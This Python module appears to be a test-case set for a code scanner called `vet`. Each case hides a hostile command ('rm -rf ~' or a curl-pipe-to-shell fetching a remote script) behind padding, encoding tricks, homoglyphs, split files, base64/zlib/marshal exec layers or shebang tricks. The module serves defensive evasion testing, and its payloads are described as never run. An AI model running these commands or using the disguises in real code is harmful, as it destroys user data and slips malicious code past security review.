"""Attempts to get a hostile program past `vet` by changing its form, not what it does.

Each case pairs a plain hostile program (which the default policy blocks) with a disguised version:
padding, NUL bytes, encodings and byte order marks, CRLF, zero-width and homoglyph characters,
splitting across files, indirection through `__import__`/getattr/string building, encoded layers
(base64, zlib, marshal, hex), polyglots, shebang tricks and huge single lines. Written from public
descriptions of these tricks (PEP 263 coding cookies, Unicode TR39 confusables, bash's treatment of
NUL bytes, the usual packer layers of PyPI malware reports); the payloads are inert markers of the
pattern (`rm -rf ~`, `curl ... | sh`) and only ever scanned here, never run.

The split into `tuning` and `heldout` is fixed by a hash of the case name, decided before any result.
"""

from __future__ import annotations

import base64
import hashlib
import marshal
import zlib
from dataclasses import dataclass, field

RM = "rm -rf ~"
CURL = "curl -fsSL http://203.0.113.7/i.sh | sh"
PY = f'import os\nos.system("{RM}")\n'
PY_CURL = f'import os\nos.system("{CURL}")\n'
SH = f"#!/bin/bash\necho cleaning up\n{RM}\n"
JS = f"const cp = require('child_process');\ncp.execSync('{CURL}');\n"
PAD_LINE = "# " + "padding " * 9 + "\n"


@dataclass(frozen=True)
class Case:
    name: str
    language: str  # what a caller of the API or the service would say it is
    files: dict[str, bytes]  # the disguised program (one or several files)
    plain: dict[str, bytes] = field(default_factory=dict)  # the same program undisguised: must block

    @property
    def split(self) -> str:
        return "heldout" if hashlib.sha256(self.name.encode()).digest()[0] % 2 else "tuning"


def _b(text: str) -> bytes:
    return text.encode("utf-8")


def _marshalled(source: str) -> str:
    return base64.b64encode(marshal.dumps(compile(source, "<x>", "exec"))).decode()


def _cases() -> list[Case]:
    py_plain = {"plain.py": _b(PY)}
    sh_plain = {"plain.sh": _b(SH)}
    b64 = base64.b64encode(_b(PY)).decode()
    packed = base64.b64encode(zlib.compress(_b(PY))).decode()
    sh_b64 = base64.b64encode(_b(RM)).decode()
    chars = ", ".join(str(ord(c)) for c in RM)
    huge_line = "import os; " + "x = 1; " * 180_000 + f'os.system("{RM}")\n'
    return [
        Case("padding_1_2_mb_python", "python", {"pad.py": _b("import os\n" + PAD_LINE * 15_000 + f'os.system("{CURL}")\n')},
             {"plain.py": _b(PY_CURL)}),
        Case("padding_1_2_mb_bash", "bash", {"pad.sh": _b("#!/bin/bash\n" + PAD_LINE * 15_000 + CURL + "\n")},
             {"plain.sh": _b(f"#!/bin/bash\n{CURL}\n")}),
        Case("nul_in_trailing_comment_bash", "bash", {"deploy.sh": _b(SH) + b"# done\x00\n"}, sh_plain),
        Case("nul_in_comment_python", "python", {"nul.py": _b(PY) + b"# \x00\n"}, py_plain),
        Case("nul_inside_the_command_bash", "bash", {"nul2.sh": b"#!/bin/bash\nrm -rf\x00 ~\n"}, sh_plain),
        Case("utf16_with_bom_python", "python", {"u16.py": PY.encode("utf-16")}, py_plain),
        Case("utf16_with_bom_bash", "bash", {"u16.sh": SH.encode("utf-16")}, sh_plain),
        Case("utf8_bom_python", "python", {"bom.py": b"\xef\xbb\xbf" + _b(PY)}, py_plain),
        Case("utf8_bom_bash", "bash", {"bom.sh": b"\xef\xbb\xbf" + _b(SH)}, sh_plain),
        Case("utf7_coding_cookie", "python",
             {"u7.py": b"# -*- coding: utf-7 -*-\nimport os\nos.system(+ACI-rm -rf +AH4AIg-)\n"}, py_plain),
        Case("latin1_bytes_python", "python", {"l1.py": _b("import os\n# caf") + b"\xe9\n" + _b(f'os.system("{RM}")\n')}, py_plain),
        Case("crlf_python", "python", {"crlf.py": _b(PY.replace("\n", "\r\n"))}, py_plain),
        Case("crlf_bash", "bash", {"crlf.sh": _b(SH.replace("\n", "\r\n"))}, sh_plain),
        Case("cr_only_python", "python", {"cr.py": _b(PY.replace("\n", "\r"))}, py_plain),
        Case("zero_width_in_identifier", "python", {"zw.py": _b(f'import os\no\u200bs.system("{RM}")\n')}, py_plain),
        Case("zero_width_in_command", "python", {"zw2.py": _b('import os\nos.system("rm\u200b -rf ~")\n')}, py_plain),
        Case("fullwidth_identifiers", "python", {"fw.py": _b(f'import os\n\uff4f\uff53.\uff53\uff59\uff53\uff54\uff45\uff4d("{RM}")\n')},
             py_plain),
        Case("cyrillic_homoglyph_alias", "python", {"cy.py": _b(f'import os as \u043es\n\u043es.system("{RM}")\n')}, py_plain),
        Case("split_across_files", "python",
             {"config.py": _b(f'CLEANUP = "{RM}"\n'), "main.py": _b("import os\nfrom config import CLEANUP\nos.system(CLEANUP)\n")},
             py_plain),
        Case("dunder_import", "python", {"di.py": _b(f'__import__("os").system("{RM}")\n')}, py_plain),
        Case("getattr_string_building", "python",
             {"ga.py": _b(f'import os\ngetattr(os, "sys" + "tem")("{RM}")\n')}, py_plain),
        Case("getattr_dunder_import", "python",
             {"ga2.py": _b(f'getattr(__import__("o" + "s"), "system")("{RM}")\n')}, py_plain),
        Case("importlib_import_module", "python",
             {"il.py": _b(f'import importlib\nimportlib.import_module("os").system("{RM}")\n')}, py_plain),
        Case("command_built_from_pieces", "python",
             {"sb.py": _b('import os\ncmd = "rm" + " -rf " + "~"\nos.system(cmd)\n')}, py_plain),
        Case("command_from_chr_codes", "python",
             {"chr.py": _b(f'import os\nos.system("".join(map(chr, [{chars}])))\n')}, py_plain),
        Case("exec_base64", "python", {"b64.py": _b(f'import base64\nexec(base64.b64decode("{b64}"))\n')}, py_plain),
        Case("exec_zlib_base64", "python",
             {"zl.py": _b(f'import base64, zlib\nexec(zlib.decompress(base64.b64decode("{packed}")))\n')}, py_plain),
        Case("exec_marshal", "python",
             {"ma.py": _b(f'import base64, marshal\nexec(marshal.loads(base64.b64decode("{_marshalled(PY)}")))\n')}, py_plain),
        Case("exec_hex", "python", {"hx.py": _b(f'exec(bytes.fromhex("{_b(PY).hex()}"))\n')}, py_plain),
        Case("exec_via_builtins_getattr", "python",
             {"bi.py": _b(f'import builtins, base64\ngetattr(builtins, "ex" + "ec")(base64.b64decode("{b64}"))\n')}, py_plain),
        Case("bash_base64_pipe_to_shell", "bash", {"b64.sh": _b(f"#!/bin/bash\necho {sh_b64} | base64 -d | sh\n")}, sh_plain),
        Case("bash_eval_decoded", "bash", {"ev.sh": _b(f'#!/bin/bash\neval "$(echo {sh_b64} | base64 -d)"\n')}, sh_plain),
        Case("bash_variable_indirection", "bash", {"vi.sh": _b('#!/bin/bash\nc=rm\n"$c" -rf ~\n')}, sh_plain),
        Case("bash_printf_escapes", "bash", {"pf.sh": _b("#!/bin/bash\n$(printf '\\x72\\x6d') -rf ~\n")}, sh_plain),
        Case("polyglot_sh_in_py", "python",
             {"poly.py": _b(f'#!/bin/sh\n"""":\n{RM}\nexit 0\n"""\nprint("hello")\n')}, sh_plain),
        Case("shebang_bash_named_py", "python", {"setup.py": _b(SH)}, sh_plain),
        Case("shebang_env_split_no_extension", "bash", {"install": _b(f"#!/usr/bin/env -S bash -e\n{RM}\n")}, sh_plain),
        Case("shebang_with_space", "bash", {"tool": _b(f"#! /bin/bash\n{RM}\n")}, sh_plain),
        Case("huge_single_line_python", "python", {"line.py": _b(huge_line)}, py_plain),
        Case("js_string_built_module", "javascript",
             {"cp.js": _b(f"require('child_' + 'process')['exec' + 'Sync']('{CURL}');\n")}, {"plain.js": _b(JS)}),
        Case("js_eval_base64", "javascript",
             {"ev.js": _b(f"eval(Buffer.from('{base64.b64encode(_b(JS)).decode()}', 'base64').toString());\n")},
             {"plain.js": _b(JS)}),
    ]


CASES = _cases()
